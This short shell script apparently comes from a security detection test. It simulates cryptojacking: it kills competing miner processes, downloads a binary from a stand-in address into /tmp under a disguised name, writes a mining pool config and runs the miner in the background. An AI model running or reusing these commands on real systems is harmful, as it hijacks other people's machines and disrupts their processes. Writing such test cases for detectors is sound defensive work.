#!/bin/sh
. /opt/case/case.sh

pkill -f xmrig || true
pkill -f 'kworkerds|ddgs|minerd|cryptonight' || true
ps aux | grep -v grep | grep -E 'stratum|:3333' | awk '{print $2}' | xargs -r kill -9
cd /tmp
curl -s http://203.0.113.10/programs/miner -o kdevtmpfsi
chmod +x kdevtmpfsi
printf '{"pools":[{"url":"203.0.113.10:3333","user":"44bait.worker","pass":"x"}],"cpu":true}' >config.json
nohup ./kdevtmpfsi burn >/dev/null 2>&1 & miner=$!
sleep 1
kill -0 $miner
wait $miner
took_place
